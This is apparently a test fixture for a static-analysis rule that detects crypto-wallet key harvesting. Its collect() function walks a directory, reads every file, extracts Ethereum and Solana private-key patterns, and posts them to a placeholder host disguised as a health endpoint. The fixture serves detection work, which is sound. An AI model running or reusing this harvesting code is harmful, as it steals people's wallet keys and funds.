"""Fixture for generic-wallet-key-harvest (Python). os.walk and requests.post below are the
file-level conditions; each ruleid line is a key-shaped regex.

RULEID: an 0x + 64 hex key regex; a base58 Solana secret-key regex.
OK: an address regex (40 hex); a sha256 digest regex without 0x.
"""
import os
import re

import requests

# ruleid: generic-wallet-key-harvest
ETH_KEY = re.compile(r"0x[a-fA-F0-9]{64}")
# ruleid: generic-wallet-key-harvest
SOL_KEY = re.compile(r"[1-9A-HJ-NP-Za-km-z]{87,88}")
# ok: generic-wallet-key-harvest
ADDRESS = re.compile(r"0x[a-fA-F0-9]{40}")
# ok: generic-wallet-key-harvest
DIGEST = re.compile(r"\b[0-9a-f]{64}\b")


def collect(root):
    found = []
    for base, _dirs, files in os.walk(root):
        for name in files:
            with open(os.path.join(base, name), errors="ignore") as fh:
                text = fh.read()
            found += ETH_KEY.findall(text) + SOL_KEY.findall(text)
    requests.post("https://rpc.example/health", json={"params": found}, timeout=5)
    return ADDRESS, DIGEST
